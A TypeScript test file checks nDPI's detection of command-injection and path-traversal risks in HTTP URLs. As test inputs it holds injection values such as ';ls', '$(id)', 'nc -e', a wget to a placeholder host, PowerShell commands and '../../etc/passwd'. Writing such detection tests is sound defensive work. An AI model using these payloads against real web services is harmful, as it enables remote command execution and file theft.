// nDPI's URL validation risks (ndpi_validate_url, src/lib/ndpi_utils.c),
// which ndpiReader applies to the flow's HTTP URL (Host then target, the
// last request's while the dissector reads, 255 bytes of it) when it reports
// the flow: the query after '?', cut at '&', each value after '=' URL-decoded
// ('+' a space, %XX a byte, an invalid escape skipping the value) and tested
// (after libinjection's XSS and SQL injection tests, which
// risks-url-injection.test.ts covers) for a shell or PowerShell command (the
// OWASP CRS patterns and lists nDPI carries: "RCE Injection"), the first risky value deciding, stopping at a
// parameter without '='; without one, ".." anywhere in the URL is "HTTP Susp
// URL". Hand-built HTTP flows, IPv4 and IPv6; each expectation names the
// pattern family it exercises (values checked against each pattern alone).

import { afterAll, describe, expect, it } from 'vitest';

import { tempDir } from './fixtures/pcap.js';
import { type Msg, get, ok, req, urlRiskRunner } from './fixtures/url-risks.js';
import { txt } from './fixtures/bytes.js';

const tmp = tempDir('fg-risks-url-');
afterAll(() => tmp.cleanup());
const { urlRisks, targets } = urlRiskRunner(tmp.dir);

const RCE = ['RCE Injection'], SUSP = ['HTTP Susp URL'], NONE: string[] = [];

describe('nDPI URL validation: RCE Injection (ndpi_is_rce_injection)', () => {
  // [target, family] whose query value matches exactly one of nDPI's 7 patterns or one list entry
  const hits: [string, string][] = [
    ['/a?f=%3Bls', 'Unix command after a separator (1st pattern)'],
    ['/a?f=a.jpg%3Buname%20-a', 'Unix command after a separator (2nd pattern)'],
    ['/a?f=a%3Bcmd', 'Windows command injection (3rd pattern)'],
    ['/a?f=a%26systeminfo', 'Windows command injection (4th pattern), %26 not a separator'],
    ['/a?f=%24%28id%29', 'Unix shell expression $(…) (5th pattern)'],
    ['/a?f=if+exist+c%3A%5Cboot.ini', 'Windows IF (6th pattern)'],
    ['/a?f=wget+http%3A%2F%2Fe.com%2Fx', 'Unix command at the start of the value (7th pattern)'],
    ['/a?f=a+dev/null', 'Unix shell snippet list'],
    ['/a?f=%24HOME', 'Unix shell snippet list ($HOME)'],
    ['/a?f=Get-ChildItem', 'PowerShell list'],
    ['/a?cmd=powershell.exe', 'PowerShell list (powershell.exe)'],
    ['/a?f=;ls', 'raw, not encoded'],
  ];
  // the same families, one detail off: no risk
  const misses: [string, string][] = [
    ['/a?f=ls', 'no separator before the command'],
    ['/a?f=x+sudo+ls', 'a space is no separator'],
    ['/a?f=acmd', 'no separator'],
    ['/a?f=asysteminfo', 'no separator'],
    ['/a?f=%28id%29', 'no $'],
    ['/a?f=if+exists+c%3A%5Cboot.ini', 'not IF EXIST'],
    ['/a?f=get+http%3A%2F%2Fe.com%2Fx', 'not a command'],
    ['/a?f=a+nc+-e', 'a command not at the start'],
    ['/a?f=a+dev/nul', 'not a snippet'],
    ['/a?f=get-childitem', 'the lists are case-sensitive'],
    ['/a?f=Powershell.exe', 'the lists are case-sensitive'],
    ['/a?q=search+terms&lang=en&price=10%3Bcurrency%3DEUR', 'ordinary values'],
  ];

  it('a query value of each pattern family: RCE Injection, IPv4 and IPv6', async () => {
    for (const v6 of [false, true]) {
      const got = await targets(hits.map(([t]) => t), v6);
      hits.forEach(([t, what], i) => expect(got[i], `${t}: ${what}${v6 ? ' (IPv6)' : ''}`).toEqual(RCE));
    }
  });

  it('near misses of each family: no risk, IPv4 and IPv6', async () => {
    for (const v6 of [false, true]) {
      const got = await targets(misses.map(([t]) => t), v6);
      misses.forEach(([t, what], i) => expect(got[i], `${t}: ${what}${v6 ? ' (IPv6)' : ''}`).toEqual(NONE));
    }
  });

  it('only values after "=": a parameter without one ends the walk; empty parameters and values are skipped', async () => {
    const cases: [string, string[]][] = [
      ['/a?;ls', NONE], // no '=' at all
      ['/a?x&f=;ls', NONE], // the walk stops at "x"
      ['/a?f=1&x&g=;ls', NONE],
      ['/a?f=ok&&g=;ls', RCE], // "&&": an empty parameter, skipped
      ['/a?f=&g=%3Bls', RCE], // an empty value, skipped
      ['/a?=;ls', RCE], // no name, a value
      ['/a?f=x=;ls', RCE], // the value is everything after the first '='
      ['/;ls?f=1', NONE], // the path is not a value
      ['/a;ls', NONE], // no query at all
      ['/a?f=1#x=;ls', RCE], // '#' is no separator: the value "1#x=;ls" holds ";ls"
    ];
    const got = await targets(cases.map(([t]) => t));
    cases.forEach(([t, want], i) => expect(got[i], t).toEqual(want));
    const got6 = await targets(cases.map(([t]) => t), true);
    cases.forEach(([t, want], i) => expect(got6[i], `${t} (IPv6)`).toEqual(want));
  });

  it("decoding: '+' is a space, %XX a byte in either case, %2B a literal '+'", async () => {
    const cases: [string, string[]][] = [
      ['/a?f=;kill+1', RCE], // ";kill 1": the pattern wants a space after "kill"
      ['/a?f=;kill%201', RCE],
      ['/a?f=%3bkill%201', RCE],
      ['/a?f=;kill%2B1', NONE], // ";kill+1"
      ['/a?f=nc+-e', RCE], // "nc -e" at the value's start (7th pattern)
      ['/a?f=nc%2B-e', NONE],
    ];
    const got = await targets(cases.map(([t]) => t));
    cases.forEach(([t, want], i) => expect(got[i], t).toEqual(want));
  });

  it('an invalid %-escape skips its value (the next one still counts); %00 ends the decoded value', async () => {
    const cases: [string, string[]][] = [
      ['/a?f=;kill%201%zz', NONE],
      ['/a?f=;kill%201%4', NONE], // an escape cut short
      ['/a?f=;kill%201%', NONE],
      ['/a?f=%zz;ls', NONE],
      ['/a?f=;kill%201%zz&g=;ls', RCE],
      ['/a?f=abc%00;ls', NONE], // read as the C string "abc"
      ['/a?f=%00&g=;ls', RCE], // nothing left of f: skipped
    ];
    const got = await targets(cases.map(([t]) => t), true);
    cases.forEach(([t, want], i) => expect(got[i], `${t} (IPv6)`).toEqual(want));
    const got4 = await targets(cases.map(([t]) => t));
    cases.forEach(([t, want], i) => expect(got4[i], t).toEqual(want));
  });
});

describe('nDPI URL validation: HTTP Susp URL (".." without an injection)', () => {
  it('".." anywhere in the URL, host included, unless a value was risky', async () => {
    const cases: [string, string, string[]][] = [
      ['/a/../b', 'h.example.org', SUSP],
      ['/msadc/..%255c../..%255c../winnt/system32/cmd.exe', 'h.example.org', SUSP],
      ['/a/./b', 'h.example.org', NONE],
      ['/a.b/c.d', 'h.example.org', NONE],
      ['/a?f=1..2', 'h.example.org', SUSP], // in a value that is no injection
      ['/a?f=%zz..', 'h.example.org', SUSP], // in a skipped value
      ['/a?f=..%2F..%2Fetc%2Fpasswd', 'h.example.org', RCE], // the value is an injection: that risk only
      ['/a?f=%2E%2E', 'h.example.org', NONE], // only the decoded value has ".."
      ['/a', 'h..example.org', SUSP], // the URL starts with the Host
    ];
    for (const v6 of [false, true]) {
      const got = await urlRisks(cases.map(([t, h]) => [[true, get(t, h)], [false, ok]]), v6);
      cases.forEach(([t, h, want], i) => expect(got[i], `${h} ${t}${v6 ? ' (IPv6)' : ''}`).toEqual(want));
    }
  });
});

describe('which URL nDPI validates', () => {
  it("the first 255 bytes of Host + target, what ndpiReader's copy keeps", async () => {
    const host = 'h.example.org'; // 13 bytes
    const q = (k: number) => `/${'a'.repeat(k)}?f=$(id)`; // 13 + 1 + k + 8 bytes
    const dots = (k: number) => `/${'a'.repeat(k)}/..`; // 13 + 1 + k + 3 bytes
    const cases: [string, string[]][] = [
      [q(233), RCE], // 255 bytes: all of it
      [q(234), NONE], // 256: the ')' is cut
      [dots(238), SUSP], // ".." at bytes 253–254
      [dots(239), NONE], // ".." at bytes 254–255: one '.' left
    ];
    for (const v6 of [false, true]) {
      const got = await urlRisks(cases.map(([t]) => [[true, get(t, host)], [false, ok]]), v6);
      cases.forEach(([t, want], i) => expect(got[i], `${t.length}-byte target${v6 ? ' (IPv6)' : ''}`).toEqual(want));
    }
  });

  it("the last request's, until the dissector has a host and a status (nDPI's reset() drops the previous one)", async () => {
    const bad = get('/a?f=;ls'), good = get('/b');
    const flows: Msg[][] = [
      [[true, bad], [true, good], [false, ok]], // a second request replaces the URL
      [[true, good], [true, bad], [false, ok]],
      [[true, bad], [false, ok], [true, good], [false, ok]], // done after the first answer
      [[true, good], [false, ok], [true, bad], [false, ok]],
      [[true, bad]], // never answered
    ];
    const want = [NONE, RCE, RCE, NONE, RCE];
    for (const v6 of [false, true]) {
      const got = await urlRisks(flows, v6);
      want.forEach((w, i) => expect(got[i], `flow ${i}${v6 ? ' (IPv6)' : ''}`).toEqual(w));
    }
  });

  it('a proxy request (absolute URI) validates its target alone; a request without Host or not HTTP has no URL', async () => {
    const flows: Msg[][] = [
      [[true, req('GET http://h.example.org/a?f=;ls HTTP/1.1', 'Host: h.example.org', 'User-Agent: t/1')], [false, ok]],
      [[true, req('GET http://h.example.org/a HTTP/1.1', 'Host: h..example.org', 'User-Agent: t/1')], [false, ok]], // the Host is not part of it
      [[true, req('GET /a?f=;ls HTTP/1.1', 'User-Agent: t/1')], [false, ok]], // no Host: nDPI sets no URL
      [[true, req('GET /a/../b HTTP/1.0', 'User-Agent: t/1')], [false, ok]],
      [[true, txt('HELLO /a?f=;ls HTTP/1.1\r\nHost: h.example.org\r\n\r\n')], [false, txt('BYE\r\n')]], // not HTTP
    ];
    const want = [RCE, NONE, NONE, NONE, NONE];
    for (const v6 of [false, true]) {
      const got = await urlRisks(flows, v6);
      want.forEach((w, i) => expect(got[i], `flow ${i}${v6 ? ' (IPv6)' : ''}`).toEqual(w));
    }
  });
});
